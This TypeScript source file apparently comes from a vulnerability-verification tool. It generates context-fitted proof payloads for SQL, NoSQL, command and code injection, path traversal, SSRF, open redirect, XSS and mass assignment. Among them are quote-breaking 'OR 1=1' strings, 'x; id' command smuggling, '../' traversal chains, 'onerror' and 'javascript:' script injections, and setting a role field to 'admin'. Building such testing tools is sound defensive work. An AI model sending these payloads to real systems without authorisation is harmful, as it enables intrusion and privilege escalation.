import { ANY_NAME, type Way } from '../../artifacts/way';
import type { Expectation } from '../../artifacts/witness';
import {
  EXPRESSIONS,
  FOREIGN_HOST,
  KNOWN_FILE,
  LOOPBACK,
  objectPayloads,
  type Payload,
  plainPayloads,
  SCRIPT,
  takenOff,
  templatePayloads,
} from '../../knowledge/witness/payloads';

/** What is known of the place that the value gets to. */
export interface Target {
  weakness: string;
  sink: string;
  /** The language of the place. */
  language: string;
  way: Way;
  /** Files of the application, for what has to end in a certain way. */
  files: readonly string[];
  /** Names of fields that let their owner do more, of the records of the application. */
  powerful: readonly string[];
}

/** Values that fit the place, the most telling one first; empty where none is known. */
export function payloadsFor(target: Target): Payload[] {
  return encoded(fitting(target), target.way);
}

function fitting(target: Target): readonly Payload[] {
  const { weakness, sink, language, way } = target;
  switch (weakness) {
    case 'sql-injection':
      return sql(way);
    case 'nosql-injection':
      return documentQuery(way);
    case 'command-injection':
      return command(way);
    case 'code-injection':
      return [code(way, EXPRESSIONS[language] ?? '7*7')];
    case 'path-traversal':
      return path(target);
    case 'ssrf':
      return address(way);
    case 'open-redirect':
      return redirect(way);
    case 'cross-site-scripting':
      return markup(way, sink);
    case 'template-injection':
      return templatePayloads(sink);
    case 'insecure-deserialization':
      return objectPayloads(sink, language);
    case 'mass-assignment':
      return fields(target);
    default:
      return plainPayloads(weakness);
  }
}

const payload = (value: Payload['value'], effect: Expectation['effect'], shows?: string): Payload => ({
  value,
  expects: { effect, ...(shows === undefined ? {} : { shows }) },
});

/** The quote that is open at the end of a text. */
function openQuote(text: string, quotes: string): string | undefined {
  let open: string | undefined;
  for (let at = 0; at < text.length; at++) {
    const char = text[at] ?? '';
    if (char === '\\') at++;
    else if (open === undefined && quotes.includes(char)) open = char;
    else if (open === char) open = undefined;
  }
  return open;
}

const count = (text: string, char: string): number => text.split(char).length - 1;

/** What ends the text and the brackets around it, makes the condition true, and leaves out what follows. */
function sql({ before }: Way): Payload[] {
  // The text may have been cut at its beginning: of an odd number of quotes the last one is open.
  const quote = ["'", '"'].find((one) => count(before, one) % 2 === 1);
  const unquoted = before.replace(/'[^']*'|"[^"]*"/g, '');
  const open = Math.max(0, count(unquoted, '(') - count(unquoted, ')'));
  if (/\b(?:order|group)\s+by\s+[^']*$/i.test(before))
    return [payload('(CASE WHEN 1=1 THEN 1 ELSE 2 END)', 'other-records')];
  if (before === '') return [payload('SELECT 1', 'more-records'), payload("' OR '1'='1' -- -", 'more-records')];
  const ended = ')'.repeat(open);
  return quote === undefined
    ? [payload(`0${ended} OR 1=1 -- -`, 'more-records')]
    : [payload(`x${quote}${ended} OR ${quote}1${quote}=${quote}1${quote} -- -`, 'more-records')];
}

function documentQuery({ before, sent }: Way): Payload[] {
  if (before !== '') {
    const quote = openQuote(before, `'"`);
    return [
      quote === undefined
        ? payload('0 || true', 'more-records')
        : payload(`x${quote} || ${quote}1${quote}==${quote}1`, 'more-records'),
    ];
  }
  return sent.path.length === 0
    ? [payload({ id: { $ne: null } }, 'more-records')]
    : [payload({ $ne: null }, 'more-records')];
}

function command({ before, option }: Way): Payload[] {
  if (option) return [payload('--help', 'runs')];
  if (before === '') return [payload('id', 'runs', 'uid='), payload('x; id', 'runs', 'uid=')];
  const quote = openQuote(before, `'"`);
  return [payload(quote === undefined ? 'x; id' : `x${quote}; id; ${quote}`, 'runs', 'uid=')];
}

function code({ before }: Way, expression: string): Payload {
  const quote = openQuote(before, `'"\``);
  return payload(quote === undefined ? expression : `${quote}+${expression}+${quote}`, 'evaluates');
}

const UPWARDS = '../'.repeat(8);

function path({ way, files }: Target): Payload[] {
  const { after = '' } = way;
  if (after === '') return [payload(`${UPWARDS}${KNOWN_FILE.path}`, 'reads-file', KNOWN_FILE.shows)];
  const known = files.find((file) => file.endsWith(after) && file.length > after.length) ?? `x${after}`;
  return [payload(`../../${known.slice(0, known.length - after.length)}`, 'reads-file')];
}

function address({ before }: Way): Payload[] {
  return [payload(`${HOST_AFTER[startOf(before)]}${LOOPBACK}/`, 'connects', LOOPBACK)];
}

/** What stands before the host of an address, by what the beginning asks for. */
const HOST_AFTER = { '': 'http://', '/': '', '@': '@' } as const;

/** What has to stand before a host after such a beginning. */
function startOf(before: string): keyof typeof HOST_AFTER {
  if (before === '') return '';
  if (/:\/\/$/.test(before)) return '/';
  return /^[a-z]+:\/\/[^/?#]+$/i.test(before) ? '@' : '/';
}

function redirect({ before }: Way): Payload[] {
  const to = (value: string): Payload => payload(value, 'redirects', FOREIGN_HOST);
  if (before.endsWith('/') && before.length === 1) return [to(`/${FOREIGN_HOST}`)];
  if (startOf(before) === '@') return [to(`@${FOREIGN_HOST}`)];
  return [to(`//${FOREIGN_HOST}`), to(`https://${FOREIGN_HOST}/`), to(`/\\${FOREIGN_HOST}`)];
}

const ELEMENT = `<img src=x onerror=${SCRIPT}>`;

function markup({ before }: Way, sink: string): Payload[] {
  const value = inMarkup(before, sink);
  return [payload(value, 'shows-script', value)];
}

function inMarkup(before: string, sink: string): string {
  if (/href|srcDoc|location/i.test(sink) && before === '') return `javascript:${SCRIPT}`;
  if (before.lastIndexOf('<script') > before.lastIndexOf('</script')) return `</script>${ELEMENT}`;
  const tag = before.slice(before.lastIndexOf('<') + 1);
  const inTag = before.includes('<') && !tag.includes('>');
  if (!inTag) return ELEMENT;
  const quote = openQuote(tag, `'"`);
  if (quote !== undefined && /(?:href|src|action)\s*=\s*["']$/i.test(tag)) return `javascript:${SCRIPT}`;
  return quote === undefined ? `x onmouseover=${SCRIPT} ` : `${quote}>${ELEMENT}`;
}

function fields({ way, powerful }: Target): Payload[] {
  const [name] = powerful;
  if (name === undefined) return [];
  if (way.sent.path.at(-1) === ANY_NAME || (way.sent.path.length > 0 && way.sent.source !== 'body'))
    return [payload(name, 'sets-field', name)];
  return [payload({ [name]: /role|permission/i.test(name) ? 'admin' : true }, 'sets-field', name)];
}

/** The value as it has to be sent for the calls on the way to make the payload of it. */
function encoded(payloads: readonly Payload[], { through }: Way): Payload[] {
  const calls = through.map(takenOff).reverse();
  return payloads.map((one) =>
    typeof one.value === 'string' ? { ...one, value: calls.reduce(encode, one.value) } : one,
  );
}

function encode(text: string, call: ReturnType<typeof takenOff>): string {
  switch (call) {
    case 'base64':
      return btoa(text);
    case 'hex':
      return Array.from(text, (char) => char.charCodeAt(0).toString(16).padStart(2, '0')).join('');
    case 'json':
      return JSON.stringify(text);
    case 'none':
      return text;
  }
}
